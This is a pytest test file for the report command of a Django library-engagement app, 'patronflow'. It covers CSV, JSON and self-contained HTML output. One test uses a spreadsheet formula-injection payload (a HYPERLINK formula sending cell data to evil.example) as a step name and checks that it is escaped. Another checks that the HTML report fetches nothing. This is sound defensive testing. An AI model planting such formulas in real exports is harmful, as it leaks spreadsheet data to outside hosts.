"""`patronflow report` as a terminal table, CSV, JSON and a self-contained HTML file."""

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from django.core.management import call_command

from patronflow.tracking.models import Event, Feedback
from tests.factories import EnrolmentFactory, LoanFactory, MessageFactory


@pytest.fixture
def network(library):
    """Gent's dormant journey with mailed and held-out members, some of whom came back."""
    journey = library.journeys.get(key="dormant")
    step = journey.current_version.steps.get(position=1)
    variant = step.variants.get(segment="")
    for number in range(48):
        enrolment = EnrolmentFactory(journey=journey, held_out=number % 4 == 0)
        if not enrolment.held_out:
            message = MessageFactory(enrolment=enrolment, step=step, variant=variant)
            Event.objects.create(message=message, kind=Event.Kind.CLICK, link_index=0)
        if number % 3 == 0:
            LoanFactory(member=enrolment.member, loaned_on=enrolment.entered_on)
    return library


def report(*arguments: str, capsys) -> str:
    call_command("report", *arguments)
    return capsys.readouterr().out


def test_the_terminal_report_still_opens_with_the_figures_per_step(network, capsys):
    output = report(capsys=capsys)

    assert output.index("Library gent") < output.index("Effect of gent/dormant")
    assert "Not enough data yet" in output
    assert "Baseline for gent" in output


def test_csv_has_a_header_and_one_row_per_step_and_variant(network, capsys):
    rows = list(csv.DictReader(io.StringIO(report("--format", "csv", capsys=capsys))))

    [row] = rows
    assert (row["journey"], row["step"], row["segment"]) == ("dormant", "1", "default")
    assert (row["sent"], row["clicked"], row["click_rate"]) == ("36", "36", "1.0")
    assert {"delivered", "uncertain", "human_opened", "net_score", "survey_clicks"} <= set(row)


def test_csv_of_the_effect_table_gives_each_measure_its_verdict(network, capsys):
    output = report("--format", "csv", "--table", "effect", capsys=capsys)
    rows = list(csv.DictReader(io.StringIO(output)))

    assert [row["measure"] for row in rows][:2] == [
        "borrowed or visited within 30 days",
        "loans per member in 30 days",
    ]
    assert all(row["verdict"].startswith("Not enough data yet") for row in rows)


def test_json_holds_every_table(network, capsys):
    data = json.loads(report("--format", "json", "--library", "gent", capsys=capsys))

    assert set(data) >= {"as_of", "metrics", "weekly", "effect", "baseline", "benchmark", "funnel"}
    assert data["library"] == "gent"
    assert data["metrics"][0]["sent"] == 36
    assert [row["library"] for row in data["benchmark"]] == ["gent", "rest", "total"]
    assert data["benchmark"][1]["mailed"] is None  # no other library's members: under 10


class Resources(HTMLParser):
    """Every attribute or stylesheet rule by which a page could fetch something."""

    def __init__(self) -> None:
        super().__init__()
        self.fetches: list[str] = []
        self.scripts = 0
        self.in_style = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in {"src", "href", "srcset", "data", "poster", "action"} and value:
                self.fetches.append(f"<{tag} {name}={value}>")
        if tag == "script":
            self.scripts += 1
        self.in_style = tag == "style"

    def handle_data(self, data):
        if self.in_style and ("url(" in data or "@import" in data):
            self.fetches.append(data)


def test_html_report_is_one_file_that_fetches_nothing(network, tmp_path, capsys):
    path = tmp_path / "report.html"
    report("--html", str(path), capsys=capsys)

    page = path.read_text(encoding="utf-8")
    parser = Resources()
    parser.feed(page)

    assert parser.fetches == []
    assert parser.scripts >= 2  # Chart.js and the charts, both inline
    assert "Chart.js v4" in page
    assert "default-src 'none'" in page  # the browser itself refuses any request
    for chart in ("funnel", "over-time", "lift", "baseline", "benchmark"):
        assert f'<canvas id="{chart}"' in page
    data = json.loads(
        page.split('<script id="chart-data" type="application/json">')[1].split("</script>")[0]
    )
    assert data["funnel"][0]["sent"] == 36


def test_csv_cells_that_start_like_a_formula_are_text_and_negative_figures_stay_numbers(
    library, capsys
):
    journey = library.journeys.get(key="dormant")
    step = journey.current_version.steps.get(position=1)
    step.name = '=HYPERLINK("https://evil.example/?"&A2,"Klik")'
    step.save()
    variant = step.variants.get(segment="")
    for number in range(30):
        enrolment = EnrolmentFactory(journey=journey)
        message = MessageFactory(enrolment=enrolment, step=step, variant=variant)
        vote = Feedback.Vote.UP if number < 10 else Feedback.Vote.DOWN
        Feedback.objects.create(message=message, vote=vote)

    output = report("--format", "csv", capsys=capsys)

    assert ',"\'=HYPERLINK(""https://evil.example/?""&A2,""Klik"")",' in output
    [row] = csv.DictReader(io.StringIO(output))
    assert row["step_name"] == f"'{step.name}"
    assert row["net_score"] == str(-1 / 3)  # a number a spreadsheet sums, not text
